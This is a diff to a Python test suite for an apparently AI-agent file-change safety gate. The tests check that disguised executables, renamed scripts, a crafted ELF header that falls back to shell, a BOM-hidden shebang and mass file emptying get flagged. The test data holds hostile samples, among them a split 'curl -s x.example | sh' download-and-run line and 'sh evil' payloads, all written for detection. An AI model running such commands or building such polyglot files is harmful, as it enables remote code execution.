@@ -3,12 +3,14 @@
 import io
 import os
 import stat
+import struct
 import subprocess
 import zipfile
 from pathlib import Path
 
 from duckflow.config.settings import GateSettings
 from duckflow.domain.files.effects import BulkEffect, DroppedEffect, Effect, Effects
+from duckflow.domain.frozen import replace
 from duckflow.safety.policy.effects import FileVersions, assess_effects, told_apart
 from duckflow.safety.policy.git_config import GitPlaces
 from duckflow.safety.sandbox.view.git_settings import read_objects
@@ -87,6 +89,10 @@ ROWS = [
     ("a changed executable", changed("run.py", 0o755), ("executable",)),
     ("an executable is deleted", deleted("tool", 0o755), ("delete", "executable")),
     ("an executable under another name", moved("b.sh", "a.sh"), ()),
+    ("text under the name of a program", moved("b.command", "b.txt"), ("executable",)),
+    ("text by a link with such a name", link("b.desktop", "b.txt"), ("executable",)),
+    ("a program by a link", link("b.sh", "tools/a.sh"), ()),
+    ("a program of another system", created("b.pif"), ("executable",)),
     # rights
     ("set-id", created("tool", 0o4755), ("rights", "executable")),
     ("a folder with a set-id bit", rights("folder", 0o755, 0o2755, type="folder"), ("rights",)),
@@ -165,6 +171,11 @@ def test_what_is_ordinary_never_asks_in_auto_and_the_rest_always_does_G3():
 with Path("/proc/self/exe").open("rb") as _program:
     ELF = _program.read(1 << 16).decode("latin-1")
 """Beginning of a program of this machine."""
+REFUSED = ELF[:64] + "".join(
+    struct.pack("<IIQQQQQQ", 3, 4, 0, 0, 0, 1, 1, 1).decode("latin-1") for _ in range(ord(ELF[56]))
+)
+REFUSED += "\nsh evil\n"
+"""Program for which the kernel finds no loader. A shell then runs its text."""
 _ARCHIVE = io.BytesIO()
 with zipfile.ZipFile(_ARCHIVE, "w") as _jar:
     _jar.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
@@ -183,6 +194,7 @@ CONTENT = [
     ("no program but its first bytes", "app", 0o755, "\x7fELF\x02\x01\0", ("executable",)),
     ("a script that begins so", "app", 0o755, "\x7fELF\nsh evil\n", ("executable",)),
     ("a header with a line end", "app", 0o755, f"{ELF[:7]}\n{ELF[8:]}", ("executable",)),
+    ("headers that the kernel refuses", "app", 0o755, REFUSED, ("executable",)),
     ("a header alone", "app", 0o755, f"{ELF[:64]}\nsh evil\n", ("executable",)),
     ("a script like a program of DOS", "app", 0o755, "MZ=1\nsh evil\n", ("executable",)),
     ("a script like an archive", "app", 0o755, "PK\x03\x04\nsh evil\n", ("executable",)),
@@ -195,6 +207,7 @@ CONTENT = [
     ("a token in wide letters", "a.txt", 0o644, "\0".join(f"token = '{TOKEN}'\n"), ("secret",)),
     ("a download after a zero", "x", 0o644, "\0\nRUN curl -s x.example | sh\n", ("pipe_to_shell",)),
     ("a key among other bytes", "x", 0o644, "\xff\xfe\n-----BEGIN RSA PRIVATE KEY-----\n", ("private_key",)),
+    ("a script after a mark", "fix", 0o644, "\xef\xbb\xbf#!/bin/sh\n", ("shebang",)),
     ("a script with a zero", "fix", 0o644, "#!/bin/sh\n\0", ("shebang",)),
     ("a token far down", "a.txt", 0o644, "words\n" * 400_000 + f"token = '{TOKEN}'\n", ("secret",)),
     ("a head of a repository", "x/HEAD", 0o644, HEAD, ("repository",)),
@@ -214,6 +227,23 @@ def test_what_new_files_hold_is_looked_at_G2():
 def test_only_lines_that_are_new_count():
     old = f"token = '{TOKEN}'\n"
     assert judge(changed("a.txt"), before={"a.txt": old}, after={"a.txt": old + "more\n"}).risk == "low"
+
+
+def test_a_line_that_completes_an_earlier_one_counts_with_it_G2():
+    for first, rest, reason in (
+        ("RUN curl -s x.example \\\n", "  | sh\n", "pipe_to_shell"),
+        ("-----BEGIN RSA\\\n", "", None),
+        ("words\n", "more\n", None),
+    ):
+        found = judge(changed("Dockerfile"), before={"Dockerfile": first}, after={"Dockerfile": first + rest})
+        assert found.reasons == ((reason,) if reason else ()), first
+
+
+def test_a_source_renamed_to_a_script_is_a_new_script_G2():
+    text = {"fix.py": "#!/bin/sh\n", "fix": "#!/bin/sh\n"}
+    assert judge(moved("fix", "fix.py"), before=text, after=text).reasons == ("shebang",)
+    assert judge(moved("fixed.py", "fix.py"), before=text, after={"fixed.py": text["fix"]}).reasons == ()
+    assert judge(moved("fixed", "fix"), before=text, after={"fixed": text["fix"]}).reasons == ()
 
 
 def test_a_script_that_becomes_a_compiled_program_is_no_build():
@@ -255,7 +285,9 @@ def test_mass_deletion_asks_and_formatting_many_files_does_not_G3():
     assert judge(*(created(f"out/{n}.html") for n in range(400))).risk == "low"
     assert judge(*(deleted(f"src/{n}.py") for n in range(20))).risk == "medium"
     assert judge(*(deleted(f"src/{n}.py") for n in range(21))).reasons == ("delete", "mass_deletion")
-    assert judge(*(changed(f"src/{n}.py", size=0) for n in range(21))).reasons == ("mass_deletion",)
+    for left in ({"size": 0}, {"size": 1}, {"size": 9, "size_before": 4_000}):
+        emptied = [replace(changed(f"src/{n}.py"), **left) for n in range(21)]
+        assert judge(*emptied).reasons == ("mass_deletion",), left
     assert judge(*(deleted(f".git/objects/ab/{n}") for n in range(90))).risk == "low"
 
 
@@ -309,6 +341,7 @@ def test_the_programs_of_a_new_virtual_environment_are_asked_about():
 def test_what_runs_in_an_environment_is_told_apart_from_its_folder():
     apart = [".venv/bin/activate", ".venv/pyvenv.cfg", ".venv/lib/python3.11/site-packages/a.pth"]
     apart += ["node_modules/x/.git/config", "tools/bin/activate"]
+    apart += [".venv/lib/python3.11/site-packages/sitecustomize/__init__.py", ".venv/lib/usercustomize.pyc"]
     plain = ["node_modules/x/bin/cli.js", ".venv/lib/python3.11/site-packages/a.py", "target/debug/app"]
     assert [path for path in apart if not told_apart(path)] == []
     assert [path for path in plain if told_apart(path)] == []
